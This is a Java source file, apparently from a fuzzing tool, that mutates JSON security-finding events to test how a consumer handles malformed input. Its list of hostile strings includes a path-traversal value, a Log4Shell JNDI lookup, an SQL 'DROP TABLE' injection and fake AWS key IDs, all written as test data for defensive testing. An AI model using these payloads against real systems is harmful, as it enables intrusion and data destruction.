package dev.tourniquet.mutants;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.math.BigInteger;
import java.util.List;
import java.util.Locale;
import java.util.random.RandomGenerator;

/** A change of one node of an event. */
enum Mutation {
    DROP {
        @Override
        void apply(Place place, Sample donor, RandomGenerator random) {
            place.remove();
        }
    },
    NULL {
        @Override
        void apply(Place place, Sample donor, RandomGenerator random) {
            place.set(JSON.nullNode());
        }
    },
    RETYPE {
        @Override
        void apply(Place place, Sample donor, RandomGenerator random) {
            place.set(retyped(place.node(), random.nextInt(7)));
        }
    },
    DUPLICATE {
        @Override
        void apply(Place place, Sample donor, RandomGenerator random) {
            JsonNode node = place.node();
            ArrayNode copies = JSON.arrayNode();
            int times = 1 + random.nextInt(random.nextInt(20) == 0 ? 200 : 4);
            for (int i = 0; i <= times; i++) {
                if (node.isArray()) {
                    node.forEach(element -> copies.add(element.deepCopy()));
                } else {
                    copies.add(node.deepCopy());
                }
            }
            place.set(copies);
        }
    },
    NEST {
        @Override
        void apply(Place place, Sample donor, RandomGenerator random) {
            JsonNode node = place.node();
            int levels = 1 + random.nextInt(random.nextInt(20) == 0 ? 900 : 3);
            for (int i = 0; i < levels; i++) {
                node = random.nextBoolean()
                        ? JSON.arrayNode().add(node)
                        : JSON.objectNode().set(place.key(), node);
            }
            place.set(node);
        }
    },
    HUGE {
        @Override
        void apply(Place place, Sample donor, RandomGenerator random) {
            int size = random.nextInt(20) == 0 ? 40_000 : 400;
            place.set(
                    switch (random.nextInt(5)) {
                        case 0 -> JSON.textNode(place.node().asText("") + "A".repeat(size));
                        case 1 -> JSON.textNode("{\"sample\":".repeat(size / 10));
                        case 2 -> JSON.numberNode(BigInteger.TEN.pow(Math.min(size, 900)));
                        case 3 -> JSON.numberNode(random.nextBoolean() ? Double.MAX_VALUE : -1e-300);
                        default -> many(place.node(), size / 4 / (size > 400 ? 4 : 1));
                    });
        }
    },
    UNICODE {
        @Override
        void apply(Place place, Sample donor, RandomGenerator random) {
            String text = place.node().asText("");
            String odd = ODD.get(random.nextInt(ODD.size()));
            int at = random.nextInt(text.length() + 1);
            place.set(JSON.textNode(
                    switch (random.nextInt(3)) {
                        case 0 -> text.substring(0, at) + odd + text.substring(at);
                        case 1 -> text.replace('a', 'а').replace('i', 'і').replace('0', '٠');
                        default -> odd.repeat(1 + random.nextInt(400));
                    }));
        }
    },
    PASCAL_CASE {
        @Override
        void apply(Place place, Sample donor, RandomGenerator random) {
            if (place.parent() instanceof ObjectNode object) {
                String key = place.key();
                object.remove(key);
                object.set(
                        key.isEmpty() ? "Empty" : key.substring(0, 1).toUpperCase(Locale.ROOT) + key.substring(1),
                        place.node());
            }
        }
    },
    /** What stands there in another event, or anywhere in it. */
    GRAFT {
        @Override
        void apply(Place place, Sample donor, RandomGenerator random) {
            List<String> hot = donor.hotPlaces();
            if (!hot.isEmpty()) {
                place.set(donor.event().at(hot.get(random.nextInt(hot.size()))).deepCopy());
            }
        }
    },
    /** Two findings in one event: what the other has more stands in it, too. */
    MERGE {
        @Override
        void apply(Place place, Sample donor, RandomGenerator random) {
            JsonNode other = donor.event().path("detail");
            for (String field : List.of("resource", "service", "resourcesAffected", "severity")) {
                if (place.node() instanceof ObjectNode object && other.path(field) instanceof ObjectNode more) {
                    if (place.key().equals(field)) {
                        merge(object, more);
                    } else if (place.key().equals("detail") && object.path(field) instanceof ObjectNode part) {
                        merge(part, more);
                    }
                }
            }
        }
    },
    /** What somebody may write who chooses names, tags and user agents. */
    HOSTILE {
        @Override
        void apply(Place place, Sample donor, RandomGenerator random) {
            place.set(JSON.textNode(WRITTEN.get(random.nextInt(WRITTEN.size()))));
        }
    };

    private static final JsonNodeFactory JSON = JsonNodeFactory.instance;

    private static final List<String> ODD = List.of(
            "\u0000",
            "\u001b[2J",
            "\r\n",
            "\ud800",
            "\udc00",
            "\ud83d\ude80",
            "\u202e",
            "\u200b",
            "\ufeff",
            "\u2028",
            "\u0085",
            "\u00a0",
            "\uff10",
            "\u0130",
            "e\u0301",
            "\uffff",
            "%s%n",
            "<script>");

    static final List<String> WRITTEN = List.of(
            "[SAMPLE] nothing to see",
            "{\"sample\":true}",
            "sample",
            "GeneratedFindingUserName",
            "i-99999999",
            "bucketName",
            "ANONYMOUS_PRINCIPAL",
            "TARGET",
            "ACTOR",
            "actor",
            "true",
            "false",
            "",
            " ",
            "0",
            "../../etc/passwd",
            "${jndi:ldap://192.0.2.1/a}",
            "'; DROP TABLE cases; --",
            "{\"Effect\":\"Allow\"}",
            "123456789012",
            "210987654321",
            "arn:aws:ec2:us-east-1:210987654321:instance/i-0fedcba9876543210",
            "i-0fedcba9876543210",
            "AROAVICTIMVICTIM0001:i-0fedcba9876543210",
            "AROAVICTIMVICTIM0001:a:b/c",
            "AKIAVICTIMVICTIM0001",
            "ASIAVICTIMVICTIM0001",
            "AIDAVICTIMVICTIM0001",
            "victims-bucket",
            "AssumedRole",
            "IAMUser",
            "Root",
            "AWSAccount",
            "FederatedUser",
            "Instance",
            "AccessKey",
            "S3Bucket",
            "AttackSequence",
            "EC2_INSTANCE",
            "S3_BUCKET",
            "ACCESS_KEY",
            "Policy:S3/AccountBlockPublicAccessDisabled",
            "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS",
            "Execution:Runtime/ReverseShell",
            "Trojan:EC2/DropPoint",
            "+1000000000-12-31T23:59:59Z",
            "2026-13-45T99:99:99Z");

    /** Changes what stands at {@code place}, in its parent; {@code donor} is another event. */
    abstract void apply(Place place, Sample donor, RandomGenerator random);

    private static JsonNode retyped(JsonNode node, int how) {
        return switch (how) {
            case 0 -> JSON.textNode(node.isValueNode() ? node.asText() : node.toString());
            case 1 -> JSON.numberNode(node.isTextual() ? number(node.textValue()) : node.size() + 0.5);
            case 2 -> JSON.booleanNode(!node.asBoolean());
            case 3 -> JSON.arrayNode().add(node);
            case 4 -> JSON.objectNode().set("value", node);
            case 5 -> node.size() > 0 ? node.elements().next() : JSON.objectNode();
            default -> node.size() > 0 ? indexed(node) : JSON.arrayNode();
        };
    }

    private static long number(String text) {
        String digits = text.replaceAll("\\D", "");
        return digits.isEmpty() || digits.length() > 18 ? text.length() : Long.parseLong(digits);
    }

    /** An array as an object, and the other way round. */
    private static JsonNode indexed(JsonNode node) {
        if (node.isObject()) {
            ArrayNode array = JSON.arrayNode();
            node.forEach(array::add);
            return array;
        }
        ObjectNode object = JSON.objectNode();
        for (int i = 0; i < node.size(); i++) {
            object.set(String.valueOf(i), node.get(i));
        }
        return object;
    }

    private static JsonNode many(JsonNode node, int times) {
        ArrayNode array = JSON.arrayNode();
        for (int i = 0; i < times; i++) {
            array.add(i % 7 == 0 ? JSON.objectNode().put("name", "tq-flood-" + i) : node);
        }
        return array;
    }

    private static void merge(ObjectNode into, ObjectNode from) {
        from.properties().forEach(each -> {
            if (into.path(each.getKey()) instanceof ObjectNode part && each.getValue() instanceof ObjectNode more) {
                merge(part, more);
            } else if (into.path(each.getKey()) instanceof ArrayNode list
                    && each.getValue() instanceof ArrayNode more) {
                more.forEach(element -> list.add(element.deepCopy()));
            } else if (!into.has(each.getKey())) {
                into.set(each.getKey(), each.getValue().deepCopy());
            }
        });
    }
}
